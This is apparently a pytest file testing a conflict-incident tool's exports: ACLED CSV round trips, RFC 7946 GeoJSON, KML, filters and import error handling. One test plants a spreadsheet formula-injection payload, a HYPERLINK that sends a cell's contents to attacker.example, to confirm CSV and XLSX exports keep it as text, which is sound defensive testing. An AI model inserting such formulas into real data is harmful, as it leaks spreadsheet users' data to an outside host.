"""Exports of the demo store: ACLED round trip, RFC 7946 GeoJSON, KML 2.2, filters, and formula
text that stays text in CSV and XLSX."""

from __future__ import annotations

import csv
import io
import itertools
import json
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from truce import pipeline
from truce.model import Decision
from truce.publish import acled, records
from truce.publish.export import stream
from truce.publish.imports import import_acled
from truce.publish.pages import Filters, day_end, day_start
from truce.store import Store

KML = "{http://www.opengis.net/kml/2.2}"


def _bytes(store: Store, format: str, filters: Filters | None = None, **kw: Any) -> bytes:
    return b"".join(stream(store, format, filters, **kw))


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel would guess the encoding"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_acled_export_import_export_gives_identical_rows(demo_home: Path, tmp_path: Path,
                                                         cli: Callable[..., Any]) -> None:
    truce = cli
    first = tmp_path / "first.csv"
    truce("export", "--format", "acled", "--out", str(first), home=demo_home)
    rows = _csv_rows(first.read_bytes())
    assert rows[0] == list(acled.COLUMNS)
    assert len(rows) > 10
    other = tmp_path / "other-home"
    done = truce("import", "--format", "acled", str(first), home=other)
    assert b"rejected" in done.stderr and f"{len(rows) - 1} imported".encode() in done.stderr
    again = truce("import", "--format", "acled", str(first), home=other)
    assert f"{len(rows) - 1} already present".encode() in again.stderr
    second = tmp_path / "second.csv"
    truce("export", "--format", "acled", "--source", "imported", "--out", str(second), home=other)
    assert _csv_rows(second.read_bytes()) == rows
    assert second.read_bytes() == first.read_bytes()


def test_acled_ids_are_stable_and_unique(demo_store: Store) -> None:
    rows = _csv_rows(_bytes(demo_store, "acled"))[1:]
    ids = [r[0] for r in rows]
    assert ids and len(set(ids)) == len(ids)
    assert all(i[:3].isalpha() and i[3:].isdigit() for i in ids)
    assert ids == [r[0] for r in _csv_rows(_bytes(demo_store, "acled"))[1:]]
    live = list(demo_store.incidents())
    assert len(ids) == len(live)


def _check_position(position: Any, where: str) -> None:
    assert isinstance(position, list) and len(position) in (2, 3), where
    lon, lat = position[0], position[1]
    assert all(isinstance(v, int | float) for v in position), where
    assert -180 <= lon <= 180 and -90 <= lat <= 90, f"{where}: {position} is not [lon, lat] in range"


def _ring_area(ring: list[list[float]]) -> float:
    return sum(x1 * y2 - x2 * y1 for (x1, y1, *_), (x2, y2, *_) in itertools.pairwise(ring)) / 2


def check_rfc7946(doc: dict[str, Any]) -> int:
    """The RFC 7946 rules a FeatureCollection must keep; returns the number of features."""
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc, "RFC 7946 removed the crs member"
    features = doc["features"]
    assert isinstance(features, list)
    for n, f in enumerate(features):
        where = f"feature {n}"
        assert f["type"] == "Feature" and "properties" in f and "geometry" in f, where
        assert "crs" not in f
        geometry = f["geometry"]
        if geometry is None:
            continue
        kind, coords = geometry["type"], geometry["coordinates"]
        if kind == "Point":
            _check_position(coords, where)
        elif kind in ("LineString", "MultiPoint"):
            for p in coords:
                _check_position(p, where)
        elif kind == "Polygon":
            for i, ring in enumerate(coords):
                for p in ring:
                    _check_position(p, where)
                assert ring[0] == ring[-1] and len(ring) >= 4, f"{where}: ring not closed"
                # Right-hand rule: exterior rings counter-clockwise, holes clockwise.
                assert (_ring_area(ring) > 0) == (i == 0), f"{where}: ring {i} winds the wrong way"
        else:
            raise AssertionError(f"{where}: unexpected geometry {kind}")
    return len(features)


def test_geojson_keeps_rfc7946(demo_store: Store) -> None:
    doc = json.loads(_bytes(demo_store, "geojson"))
    assert check_rfc7946(doc) == len(list(demo_store.incidents()))
    placed = [f for f in doc["features"] if f["geometry"]]
    assert placed
    by_id = {i.id: i for i in demo_store.incidents()}
    for f in placed:  # longitude first: the coordinates are the incident's, in that order
        loc = by_id[f["id"]].location
        assert f["geometry"]["coordinates"] == [round(loc.lon, 6), round(loc.lat, 6)]


def test_rfc7946_check_catches_swapped_coordinates() -> None:
    bad = {"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [39.8, 146.7]}}]}
    with pytest.raises(AssertionError):
        check_rfc7946(bad)
    clockwise = {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": {
        "type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1], [1, 0], [0, 0]]]}}]}
    with pytest.raises(AssertionError):
        check_rfc7946(clockwise)


def test_kml_parses_as_kml_2_2(demo_store: Store) -> None:
    root = ET.fromstring(_bytes(demo_store, "kml"))
    assert root.tag == f"{KML}kml"
    marks = root.findall(f"{KML}Document/{KML}Placemark")
    placed = [i for i in demo_store.incidents() if i.location and i.location.lat is not None]
    assert marks and len(marks) == len(placed)
    for mark in marks:
        lon, lat = (float(v) for v in mark.findtext(f"{KML}Point/{KML}coordinates", "").split(","))
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert mark.find(f"{KML}styleUrl") is not None and mark.findtext(f"{KML}name")
    styles = {s.get("id") for s in root.findall(f"{KML}Document/{KML}Style")}
    assert {m.findtext(f"{KML}styleUrl", "").lstrip("#") for m in marks} <= styles


def test_plover_records(demo_store: Store) -> None:
    lines = _bytes(demo_store, "plover").decode().splitlines()
    assert len(lines) == len(list(demo_store.incidents()))
    for line in lines:
        record = json.loads(line)
        assert record["id"].startswith("in_") and record["event"] and record["event"][0] in records._QUAD
        assert record["date"] is None or len(record["date"]) == 10


def _ids(store: Store, filters: Filters) -> set[str]:
    rows = _csv_rows(_bytes(store, "csv", filters))
    assert rows[0] == list(records.COLUMNS)
    return {r[0] for r in rows[1:]}


def test_filters_are_honoured(demo_store: Store) -> None:
    from datetime import date

    live = list(demo_store.incidents())
    verdicts = demo_store.verdicts()
    start, end = day_start(date(2023, 9, 21)), day_end(date(2023, 9, 22))
    by_time = {i.id for i in live if i.start and i.end and i.end >= start and i.start <= end}
    assert by_time and _ids(demo_store, Filters(start=start, end=end)) == by_time
    bbox = (46.6, 39.7, 46.9, 39.9)
    inside = {i.id for i in live if i.location and i.location.lat is not None
              and bbox[0] <= i.location.lon <= bbox[2] and bbox[1] <= i.location.lat <= bbox[3]}
    assert inside and _ids(demo_store, Filters(bbox=bbox)) == inside
    assaults = {i.id for i in live if i.type == "ASSAULT"}
    assert assaults and _ids(demo_store, Filters(type="assault")) == assaults
    violations = {v.incident_id for v in verdicts if v.verdict == "violation"}
    assert violations and _ids(demo_store, Filters(verdict="violation")) == violations
    party = {i.id for i in live if i.actor_country == "AZE"} | {
        v.incident_id for v in verdicts if v.party == "AZE"}
    assert party and _ids(demo_store, Filters(party="AZE")) == party & {i.id for i in live}
    both = _ids(demo_store, Filters(type="ASSAULT", verdict="violation", start=start, end=end))
    assert both == assaults & violations & by_time


def test_bad_filter_is_one_line(demo_home: Path, cli: Callable[..., Any]) -> None:
    truce = cli
    done = truce("export", "--format", "csv", "--bbox", "46.7,39.8", home=demo_home, check=False)
    assert done.returncode == 2
    lines = done.stderr.decode().strip().splitlines()
    assert len(lines) == 1 and "[E702]" in lines[0] and "Traceback" not in done.stderr.decode()


def test_formula_cells_stay_text_in_csv_and_xlsx(store_copy: tuple[Store, Path], tmp_path: Path) -> None:
    import openpyxl

    store, _ = store_copy
    target = next(i for i in store.incidents() if i.type == "ASSAULT" and i.location is not None)
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    store.record_decision(Decision("", "correct", target.id, field="place",
                                   value={"name": formula, "lat": 39.76, "lon": 46.75}, author="test"))
    pipeline.refresh(store, [target.id])
    rows = _csv_rows(_bytes(store, "csv"))
    place = rows[0].index("place")
    cells = [r[place] for r in rows[1:] if r[0] == target.id]
    assert cells == ["'" + formula]
    raw = _bytes(store, "csv")
    assert b"\r\n" in raw and raw.count(b"\n") == raw.count(b"\r\n")
    longitudes = [r[rows[0].index("longitude")] for r in rows[1:]]
    assert not any(v.startswith("'") for v in longitudes)  # numbers are never prefixed
    path = tmp_path / "out.xlsx"
    path.write_bytes(_bytes(store, "xlsx"))
    sheet = openpyxl.load_workbook(path, read_only=True).active
    table = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert table[0] == list(records.COLUMNS) and len(table) == len(rows)
    found = [r[place] for r in table[1:] if r[0] == target.id]
    assert found == [formula]
    cells_xlsx = openpyxl.load_workbook(path).active
    kinds = {c.data_type for row in cells_xlsx.iter_rows() for c in row if isinstance(c.value, str)
             and c.value.startswith("=")}
    assert kinds == {"s"}, "a string beginning with = must be stored as text, not a formula"


def test_import_names_bad_rows_and_keeps_the_rest(store_copy: tuple[Store, Path], tmp_path: Path) -> None:
    store, _ = store_copy
    header = ",".join(acled.COLUMNS)
    good = _csv_rows(_bytes(store, "acled"))[1]
    broken = list(good)
    broken[0], broken[1] = "AZE1", "31/31/2023"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header.split(","), good, broken, ["a", "b"]])
    path = tmp_path / "acled.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    summary = import_acled(store, path)
    assert (summary.added, summary.rejected) == (1, 2)
    assert any("acled.csv:3" in p and "E711" in p for p in summary.problems)
    assert any("acled.csv:4" in p and "E716" in p for p in summary.problems)
